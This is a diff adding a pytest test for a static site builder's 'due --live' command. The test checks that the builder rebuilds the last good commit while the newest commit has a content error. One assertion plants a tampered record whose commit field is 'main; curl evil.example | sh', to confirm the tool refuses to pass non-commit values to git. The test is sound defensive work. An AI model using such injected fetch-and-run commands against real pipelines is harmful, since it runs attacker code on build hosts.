@@ -222,3 +222,60 @@ def test_every_build_publishes_its_record(tmp_path, monkeypatch):
     record = json.loads((root / "output/site-builder.json").read_text())
     # the next moment the same content makes another site: the item dated 09:00
     assert record == {"commit": "c" * 40, "valid_until": "2026-11-26T09:00:00+07:00"}
+
+
+def test_while_the_newest_commit_has_errors_the_live_commit_is_built_when_due(
+        tmp_path, monkeypatch):
+    """A content error on main froze the live site: every hourly run failed on it, and
+    "Hari ini", past sessions and scheduled items stood still until someone fixed it.
+    `due --live` names the commit the live site was built from, for the workflow to
+    build instead, when that site is past the moment it stops being right."""
+    from browser import serve
+
+    host = tmp_path / "host"
+    host.mkdir()
+    answers = tmp_path / "github-output"
+    monkeypatch.setenv("GITHUB_OUTPUT", str(answers))
+    monkeypatch.setenv("GITHUB_ACTIONS", "true")
+    good, newest = "a" * 40, "b" * 40
+
+    def asked(now: str, *args: str):
+        answers.write_text("")
+        return due(root, now, "--live", *args), answers.read_text()
+
+    with serve(host) as base:
+        root = make_site(tmp_path / "site", {
+            **FILES, "content/site.yaml": f"title: Perpustakaan Uji\nbase_url: {base}\n"})
+        monkeypatch.setenv("SITE_BUILDER_COMMIT", good)   # as the workflow's Build step
+        assert run(root, "build", "--output", str(host), now="2026-11-24T09:00").code == 0
+        monkeypatch.delenv("SITE_BUILDER_COMMIT")
+        assert json.loads((host / "site-builder.json").read_text())["commit"] == good
+        monkeypatch.setenv("GITHUB_SHA", newest)
+        (root / "content/news/2026-11-20-pojok-baca-baru.md").write_text(
+            "---\ntitle: Pojok Baca\ndate: 2026-11-31\n---\nIsi.\n")
+
+        # the site published at 09:00 is right until midnight: nothing to build yet
+        result, answer = asked("2026-11-24T10:05")
+        assert result.code == 0, result.err
+        assert "2026-11-20-pojok-baca-baru.md:3" in result.err   # the error is still told
+        assert "::warning title=Situs dibangun dari commit sebelumnya::commit terbaru " \
+               "(bbbbbbb) berisi kesalahan" in result.out
+        assert answer == f"due=false\ngood={good}\n"
+        # a new day: build the live commit again, with the clock of today
+        result, answer = asked("2026-11-25T00:05")
+        assert result.code == 0 and "Perlu dibangun ulang dari commit aaaaaaa" in result.out
+        assert answer == f"due=true\ngood={good}\n"
+        assert asked("2026-11-24T10:05", "--exit-code")[0].code == 3
+
+        # no other commit to go back to: the error stops the run, as before
+        monkeypatch.setenv("GITHUB_SHA", good)
+        result, answer = asked("2026-11-25T00:05")
+        assert result.code == 1 and answer == ""
+        # a record that is not a commit id is never passed on (it goes into git)
+        monkeypatch.setenv("GITHUB_SHA", newest)
+        (host / "site-builder.json").write_text(json.dumps(
+            {"commit": "main; curl evil.example | sh", "valid_until": "2026-11-25T00:00:00+07:00"}))
+        result, answer = asked("2026-11-25T00:05")
+        assert result.code == 1 and answer == ""
+    # without --live, as before
+    assert due(root, "2026-11-25T00:05").code == 1
